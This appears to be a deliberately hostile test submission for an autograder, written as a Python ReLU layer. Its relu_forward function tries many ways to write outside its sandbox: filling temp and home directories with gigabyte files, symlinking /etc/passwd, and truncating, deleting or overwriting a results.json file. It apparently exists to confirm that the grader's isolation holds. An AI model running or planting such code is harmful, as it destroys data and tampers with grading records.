"""Writes files wherever it can, by every way there is.

earns: everything
relu_forward/values: passed, nothing written
never: WRITTEN
"""

import os
import pathlib
import shutil
import sqlite3
import tempfile

import numpy as np

VICTIM = "@victim@"
PLACES = [VICTIM, "/tmp", "/var/tmp", "/dev/shm", ".", "@course@", os.path.expanduser("~")]


def fill(place):
    with open(f"{place}/gradecheck_hostile", "wb") as file:
        for _ in range(1000):
            file.write(bytes(2**20))
        file.flush()


WAYS = [lambda place=place: fill(place) for place in PLACES] + [
    lambda: os.mkdir("/tmp/gradecheck_hostile"),
    lambda: os.symlink("/etc/passwd", "/tmp/gradecheck_hostile"),
    lambda: os.mkfifo("/tmp/gradecheck_hostile"),
    lambda: tempfile.mkdtemp(prefix="gradecheck_hostile"),
    lambda: os.truncate(f"{VICTIM}/results.json", 0),
    lambda: os.remove(f"{VICTIM}/results.json"),
    lambda: os.rename(f"{VICTIM}/results.json", f"{VICTIM}/other.json"),
    lambda: os.chmod(f"{VICTIM}/results.json", 0o777),
    lambda: shutil.copy(f"{VICTIM}/results.json", "/tmp/gradecheck_hostile"),
    lambda: pathlib.Path(f"{VICTIM}/results.json").write_text("{}"),
    lambda: sqlite3.connect(f"{VICTIM}/gradecheck_hostile.db").execute("create table grades (points)"),
]


def relu_forward(x):
    count = 0
    for way in WAYS:
        try:
            way()
            count += 1
        except (OSError, sqlite3.Error):
            pass
    print("WRIT" + "TEN" if count else "nothing written")
    return np.where(x > 0, x, 0.0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
